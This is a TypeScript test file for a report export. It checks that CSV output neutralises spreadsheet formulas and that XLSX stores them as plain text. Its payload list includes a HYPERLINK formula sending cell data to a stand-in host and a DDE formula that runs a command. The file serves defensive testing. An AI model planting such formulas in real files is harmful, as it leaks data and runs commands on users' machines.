import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ReportRow } from '../../shared/report/report-rows.ts';
import { tableOf, workbookOf } from '../../worker/routes/report-files.ts';
import { readWorkbook } from './read-workbook.ts';

/** What a desk or a position could be called by somebody who means ill, or just types so. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1-1',
  '@SUM(1;1)',
  '=HYPERLINK("http://ke-xau.example/?"&A1;"Quầy 1")',
  "=cmd|' /C calc'!A0",
];
const plain = [
  'Công chức "Tư pháp", Hộ tịch',
  'Quầy 1\nbên trái',
  'Nguyễn Thị Ước, xã Ea Đrăng; ông/bà ỡ ẵ ộ ự',
  ' có dấu cách ở đầu',
  "'đã có dấu phẩy trên",
];
const rows: readonly ReportRow[] = [
  ['Mục', 'Điểm'],
  ...[...formulas, ...plain].map((text, at) => [text, at]),
  ['âm', -3],
];

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'nghe-dan-tables-'));
});

afterAll(() => rm(folder, { recursive: true, force: true }));

/** The rows that a spreadsheet finds in a file. */
async function foundIn(name: string, content: ReadableStream<Uint8Array> | string) {
  const path = join(folder, name);
  await writeFile(path, Buffer.from(await new Response(content).arrayBuffer()));
  return readWorkbook(path).filter((row) => row.some((cell) => cell !== ''));
}

const withText = (change: (text: string) => string) =>
  rows.map(([text, figure]) => [change(String(text)), String(figure)]);

test('a spreadsheet finds in the CSV what was written, computes nothing of it, and reads figures as figures', async () => {
  const guarded = (text: string) => (formulas.includes(text) ? `'${text}` : text);
  expect(await foundIn('bao-cao.csv', tableOf(rows))).toEqual(withText(guarded));
});

test('the same spreadsheet computes what nobody has guarded', async () => {
  expect(await foundIn('khong-an-toan.csv', '"=1+1"\r\n')).toEqual([['2']]);
});

test('the workbook holds the same as text, without an apostrophe', async () => {
  expect(await foundIn('bao-cao.xlsx', workbookOf(rows, 'Báo cáo'))).toEqual(
    withText((text) => text),
  );
});
